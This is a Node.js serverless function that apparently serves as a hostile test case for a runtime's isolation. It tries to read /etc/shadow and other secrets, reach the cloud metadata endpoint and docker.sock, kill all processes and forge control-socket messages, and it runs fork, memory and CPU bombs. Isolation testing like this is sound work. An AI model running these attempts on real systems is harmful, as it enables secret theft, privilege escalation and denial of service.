// The hostile function once more, in Node.js: runs the attempt that its event names.
const { spawn, spawnSync } = require("child_process");
const dns = require("dns");
const fs = require("fs");
const net = require("net");

exports.handler = async (event, context) => attempts[event.attempt](event, context);

function book() {
  const got = [];
  const refused = [];
  const take = (what, call) => {
    try {
      const value = call();
      if (value === undefined || value === null || value.length === 0) refused.push(`${what}: nothing`);
      else got.push(`${what}: ${String(value).slice(0, 100)}`);
    } catch (error) {
      refused.push(`${what}: ${error.code}`);
    }
  };
  return { got, refused, take };
}

function connect(target) {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ ...target, timeout: 1000 });
    socket.on("connect", () => { socket.destroy(); resolve("connected"); });
    socket.on("timeout", () => { socket.destroy(); reject(new Error("timeout")); });
    socket.on("error", reject);
  });
}

function control() {
  const log = fs.fstatSync(1).ino;
  return fs.readdirSync("/proc/self/fd").map(Number).find((fd) => {
    try {
      return fs.fstatSync(fd).isSocket() && fs.fstatSync(fd).ino !== log;
    } catch {
      return false;
    }
  });
}

function frame(kind, head, body = "") {
  const packed = Buffer.from(JSON.stringify(head));
  const header = Buffer.alloc(9);
  header.write(kind, 0);
  header.writeUInt32BE(packed.length, 1);
  header.writeUInt32BE(body.length, 5);
  return Buffer.concat([header, packed, Buffer.from(body)]);
}

const forever = () => new Promise((resolve) => setTimeout(resolve, 600_000));

const attempts = {
  files(event) {
    const { got, refused, take } = book();
    const ways = ["", "/proc/1/root", "/proc/self/root", "/var/task/../.."];
    for (const path of ["/etc/shadow", event.host_file, ...event.secret_files]) {
      for (const way of ways) take(way + path, () => fs.readFileSync(way + path));
      take(path, () => fs.openSync(path, "r+"));
    }
    for (const name of ["sysrq-trigger", "sys/kernel/core_pattern"]) {
      take(name, () => fs.openSync(`/proc/${name}`, "w"));
    }
    take("setuid", () => process.setuid(0) || "done");
    take("own code", () => fs.openSync("/var/task/index.js", "r+"));
    return { got, refused };
  },

  async sockets(event) {
    const got = [];
    const refused = [];
    const targets = [
      ...event.host_services.map(([host, port]) => ({ host, port })),
      ...event.neighbours.map((host) => ({ host, port: event.neighbour_port })),
      { host: "169.254.169.254", port: 80 },
      { path: "/var/run/docker.sock" },
      { path: "/run/hearth/socket" },
      ...event.host_sockets.map((path) => ({ path })),
    ];
    for (const target of targets) {
      const name = JSON.stringify(target);
      await connect(target).then(
        () => got.push(name),
        (error) => refused.push(`${name}: ${error.code ?? error.message}`),
      );
    }
    return { got, refused };
  },

  async names(event) {
    const found = await dns.promises.lookup("metadata.google.internal").catch(() => null);
    return { got: found ? [found.address] : [], refused: found ? [] : ["not known"] };
  },

  fork_bomb() {
    const source = "const{spawn}=require('child_process');" +
      "setInterval(()=>spawn(process.execPath,['-e',process.env.BOMB],{detached:true})" +
      ".on('error',()=>{}),1)";
    for (let count = 0; count < 8; count += 1) {
      spawn(process.execPath, ["-e", source], { detached: true, env: { BOMB: source } });
    }
    return forever();
  },

  memory_bomb() {
    for (const hold = []; ; ) hold.push(Buffer.alloc(8 * 2 ** 20, 1));
  },

  heap_bomb() {
    for (const hold = []; ; ) hold.push(new Array(1_000).fill(hold.length));
  },

  other_id(event) {
    fs.writeSync(control(), frame("A", { id: event.other_id }, '"forged"'));
    return forever();
  },

  two_answers(event, context) {
    fs.writeSync(control(), frame("A", { id: context.awsRequestId }, '"first"'));
    return "second";
  },

  flood_stdout() {
    const line = "a line of output that nobody wants to read\n".repeat(1_000);
    for (;;) fs.writeSync(1, line);
  },

  signals_to_all() {
    process.kill(1, "SIGKILL");
    try {
      process.kill(-1, "SIGKILL");
    } catch (error) {
      return { got: [], refused: [error.code] };
    }
    return { got: [], refused: ["nobody else was there"] };
  },

  daemons() {
    for (let count = 0; count < 3; count += 1) {
      spawn("sleep", ["1000"], { detached: true, stdio: "ignore", env: {} }).unref();
    }
    return "answered";
  },

  burn() {
    for (;;);
  },

  setuid_programs() {
    const { got, refused, take } = book();
    take("su", () => spawnSync("su", ["-c", "id -u"]).stdout);
    take("mount", () => (spawnSync("mount", ["-t", "tmpfs", "x", "/tmp"]).status === 0 ? "ok" : ""));
    return { got, refused };
  },
};
